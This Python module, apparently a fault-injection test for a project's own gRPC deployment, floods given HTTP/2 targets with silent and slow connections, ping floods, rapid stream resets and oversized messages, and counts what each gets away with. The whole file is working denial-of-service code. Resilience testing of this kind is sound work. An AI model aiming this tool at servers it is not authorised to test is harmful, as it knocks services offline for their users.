"""Connections that are slow, silent, noisy or huge, as an attacker opens them; bounded in rate.

It speaks just enough HTTP/2 (RFC 9113) to be a nuisance, and counts what it got away with.
"""

import argparse
import asyncio
import contextlib
import json
import time
from collections import Counter
from collections.abc import AsyncIterator, Callable
from struct import Struct
from typing import Final

__all__ = ["frame", "main"]

_HEAD: Final = Struct(">HBBBI")  # length, 24 bits of it; type; flags; stream
_DATA, _HEADERS, _RESET, _SETTINGS, _PING = 0, 1, 3, 4, 6
_END_HEADERS: Final = 4
_PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_MESSAGE_BYTES: Final = 5 << 20  # beyond what a server takes
_CHUNK_BYTES: Final = 16_384
_SILENT: Final = 200
_SLOW: Final = 200
_RESETS_S: Final = 500
_PINGS_S: Final = 200
_HUGE_S: Final = 2
_TURN_S: Final = 0.05
_PATH: Final = b"/opencif.v1.LookupService/LookupCards"

Ends = tuple[asyncio.StreamReader, asyncio.StreamWriter]


def frame(kind: int, flags: int, stream: int, body: bytes) -> bytes:
    """An HTTP/2 frame."""
    return _HEAD.pack(len(body) >> 8, len(body) & 0xFF, kind, flags, stream) + body


def _headers() -> bytes:
    """A gRPC call's header block (RFC 7541), nothing of it indexed."""
    fields = (
        (b":method", b"POST"), (b":scheme", b"http"), (b":path", _PATH),
        (b":authority", b"attack"), (b"te", b"trailers"), (b"content-type", b"application/grpc"),
    )  # fmt: skip
    return b"".join(
        bytes([0, len(name)]) + name + bytes([len(value)]) + value for name, value in fields
    )


class Attack:
    """All that is done to one address until `ends` (monotonic seconds)."""

    def __init__(self, host: str, port: int, ends: float) -> None:
        self._host, self._port, self._ends = host, port, ends
        self.done: Counter[str] = Counter()

    async def run(self) -> None:
        """Everything at once."""
        slow = _PREFACE + frame(_SETTINGS, 0, 0, b"") + frame(_HEADERS, 0, 1, _headers()[:20])
        await asyncio.gather(
            *(self._linger("silent", b"") for _ in range(_SILENT)),
            *(self._linger("slow", slow) for _ in range(_SLOW)),
            self._repeat("pings", _PINGS_S, lambda _: frame(_PING, 0, 0, bytes(8))),
            self._repeat("resets", _RESETS_S, _reset),
            self._huge(),
        )

    async def _linger(self, what: str, data: bytes) -> None:
        """Connect, send this, and wait until the other side has had enough."""
        with contextlib.suppress(OSError, TimeoutError):
            async with self._connected() as (reader, writer):
                writer.write(data)
                self.done[what] += 1
                async with asyncio.timeout(self._ends - time.monotonic()):
                    while await reader.read(_CHUNK_BYTES):
                        pass
                self.done[f"{what}_closed"] += 1

    async def _repeat(self, what: str, rate_s: int, made: Callable[[int], bytes]) -> None:
        """Send such frames at a rate, again and again on new connections."""
        each = int(rate_s * _TURN_S)
        while time.monotonic() < self._ends:
            with contextlib.suppress(OSError):
                async with self._connected() as (_, writer):
                    writer.write(_PREFACE + frame(_SETTINGS, 0, 0, b""))
                    number = 0
                    while time.monotonic() < self._ends:
                        writer.write(b"".join(made(number + more) for more in range(each)))
                        await writer.drain()
                        number += each
                        self.done[what] += each
                        await asyncio.sleep(_TURN_S)
            self.done[f"{what}_closed"] += 1
            await asyncio.sleep(_TURN_S)

    async def _huge(self) -> None:
        """Begin messages beyond the limit and send as much of them as is taken."""
        begun = b"\0" + _MESSAGE_BYTES.to_bytes(4, "big")
        call = frame(_HEADERS, _END_HEADERS, 1, _headers()) + frame(_DATA, 0, 1, begun)
        while time.monotonic() < self._ends:
            with contextlib.suppress(OSError, TimeoutError):
                async with asyncio.timeout(1), self._connected() as (_, writer):
                    writer.write(_PREFACE + frame(_SETTINGS, 0, 0, b"") + call)
                    self.done["huge"] += 1
                    for _ in range(4):  # the window that a server grants at first
                        writer.write(frame(_DATA, 0, 1, bytes(_CHUNK_BYTES - 8)))
                        await writer.drain()
                    await asyncio.sleep(1 / _HUGE_S)

    @contextlib.asynccontextmanager
    async def _connected(self) -> AsyncIterator[Ends]:
        reader, writer = await asyncio.open_connection(self._host, self._port)
        try:
            yield reader, writer
        finally:
            writer.transport.abort()


def _reset(number: int) -> bytes:
    stream = 2 * number + 1
    cancel = (8).to_bytes(4, "big")
    return frame(_HEADERS, _END_HEADERS, stream, _headers()) + frame(_RESET, 0, stream, cancel)


async def _all(targets: list[str], seconds: float) -> Counter[str]:
    ends = time.monotonic() + seconds
    attacks = []
    for target in targets:
        host, _, port = target.rpartition(":")
        attacks.append(Attack(host, int(port), ends))
    await asyncio.gather(*(attack.run() for attack in attacks))
    total: Counter[str] = Counter()
    for attack in attacks:
        total.update(attack.done)
    return total


def main() -> None:
    """Attack for so long; print one line of JSON."""
    parser = argparse.ArgumentParser(prog="python -m deploy.fault_attack", description=__doc__)
    parser.add_argument("--targets", nargs="+", required=True, help="host:port of each")
    parser.add_argument("--seconds", type=float, default=5.0)
    given = parser.parse_args()
    print(json.dumps(asyncio.run(_all(given.targets, given.seconds))))


if __name__ == "__main__":
    main()
